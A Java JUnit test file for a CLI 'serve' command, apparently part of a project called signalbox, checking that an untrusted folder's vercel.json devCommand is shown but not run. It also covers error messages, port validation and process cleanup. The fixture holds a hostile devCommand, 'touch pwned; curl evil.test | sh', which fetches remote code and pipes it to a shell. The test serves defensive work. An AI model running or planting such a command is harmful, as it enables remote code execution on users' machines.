package dev.signalbox.app.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a folder nobody has agreed to may do. */
class ServeCommandTest {
  @TempDir private Path folder;
  private final StringWriter out = new StringWriter();

  private int serve() throws IOException {
    Files.writeString(
        folder.resolve("vercel.json"),
        """
        {"services": {"web": {"root": ".", "entrypoint": "server.js",
          "devCommand": "touch pwned; curl evil.test | sh"}}}
        """);
    Files.writeString(folder.resolve("server.js"), "");
    PrintWriter writer = new PrintWriter(out, true);
    String data = folder.resolve("data").toString();
    return Cli.run(
        project -> {},
        writer,
        writer,
        "serve",
        folder.toString(),
        "--port",
        "0",
        "--data-dir",
        data);
  }

  @Test
  void saysThatThereIsNoConfigurationAndWhatProposesOne() {
    CliRun run = CliRun.of("serve", folder.toString());
    assertThat(run.exit()).isEqualTo(Cli.FAILED);
    assertThat(run.err())
        .contains("there is no vercel.json in " + folder + ".")
        .contains("`signalbox detect --format config " + folder + "` proposes one.");
  }

  @Test
  void proposesNothingBesideAConfigurationOfAnotherKind() throws IOException {
    Path program = Files.writeString(folder.resolve("vercel.ts"), "");
    assertThat(CliRun.of("serve", folder.toString()).err())
        .contains("there is no vercel.json", "does not run " + program)
        .doesNotContain("detect");
  }

  @Test
  void saysThatAFolderIsNotThere() {
    Path absent = folder.resolve("absent");
    assertThat(CliRun.of("serve", absent.toString()).err()).contains(absent + " is not a folder.");
  }

  @Test
  void untrustedFolderRunsNothing() throws IOException {
    serve();
    assertThat(folder.resolve("pwned")).doesNotExist();
  }

  @Test
  void untrustedFolderShowsTheExactCommand() throws IOException {
    serve();
    assertThat(out.toString()).contains("touch pwned; curl evil.test | sh", "Nothing was run");
  }

  @Test
  void refusalIsVisibleInTheExitCode() throws IOException {
    assertThat(serve()).isEqualTo(Cli.FOUND);
  }

  private CliRun served(String... options) throws IOException {
    serve();
    return CliRun.of(
        Stream.concat(Stream.of("serve", folder.toString(), "--trust"), Stream.of(options))
            .toArray(String[]::new));
  }

  @ParameterizedTest
  @ValueSource(strings = {"--stub=wbe", "--running=wbe=5173"})
  void aMistypedServiceRunsNothing(String option) throws IOException {
    CliRun run = served(option);
    assertThat(run.exit()).isEqualTo(Cli.FAILED);
    assertThat(run.err()).contains("there is no service wbe; this project has web.");
    assertThat(folder.resolve("pwned")).doesNotExist();
  }

  @ParameterizedTest
  @ValueSource(strings = {"--port=-1", "--port=65536", "--running=web=0", "--running=web=99999"})
  void aPortThatCannotBeIsNamed(String option) throws IOException {
    CliRun run = served(option);
    assertThat(run.exit()).isEqualTo(Cli.FAILED);
    assertThat(run.err()).contains("is no port; ports are ");
  }

  private CliRun asVercelDev(String config) throws IOException {
    Files.writeString(folder.resolve("vercel.json"), config);
    Files.writeString(folder.resolve("server.js"), "");
    String data = folder.resolve("data").toString();
    return CliRun.of(
        "serve", folder.toString(), "-m", "vercel_dev", "--trust", "-p", "0", "--data-dir", data);
  }

  @Test
  void whatVercelDevRefusesIsNotRun() throws IOException {
    CliRun run = asVercelDev("{\"services\": {\"Web\": {\"root\": \".\"}}}");
    assertThat(run.exit()).isEqualTo(Cli.FOUND);
    assertThat(run.err()).startsWith("Error: [INVALID_VERCEL_CONFIG] Invalid vercel.json - ");
  }

  @Test
  void serviceThatEndsBeforeItAnswersEndsAllAsInVercelDev() throws IOException {
    CliRun run =
        asVercelDev(
            """
            {"services": {"web": {"root": ".", "entrypoint": "server.js", "devCommand": "exit 3"}}}
            """);
    assertThat(run.exit()).isEqualTo(Cli.FOUND);
    assertThat(run.err())
        .contains(
            "Error: [DEV_SERVICE_START_FAILED] Service \"web\" exited with code 3 before port was"
                + " available");
  }

  @Test
  @Timeout(30)
  void endsWithItsServicesWhenNobodyReadsItsOutput() throws IOException {
    Files.writeString(
        folder.resolve("vercel.json"),
        """
        {"services": {"web": {"root": ".", "entrypoint": "server.js",
          "devCommand": "echo $$ > pid; exec sleep 60"}}}
        """);
    Files.writeString(folder.resolve("server.js"), "");
    String data = folder.resolve("data").toString();
    PrintWriter pipe = new PrintWriter(new LeavingReader(out, 3), true);
    int code =
        Cli.run(
            project -> {},
            pipe,
            new PrintWriter(out),
            "serve",
            folder.toString(),
            "--trust",
            "--port=0",
            "--data-dir=" + data);
    assertThat(code).isEqualTo(141);
    assertThat(out.toString()).doesNotContain("Exception").contains("Listening on");
    assertThat(running(folder.resolve("pid"))).isFalse();
  }

  private static boolean running(Path pid) throws IOException {
    return Files.exists(pid)
        && ProcessHandle.of(Long.parseLong(Files.readString(pid).strip()))
            .map(ProcessHandle::isAlive)
            .orElse(false);
  }
}
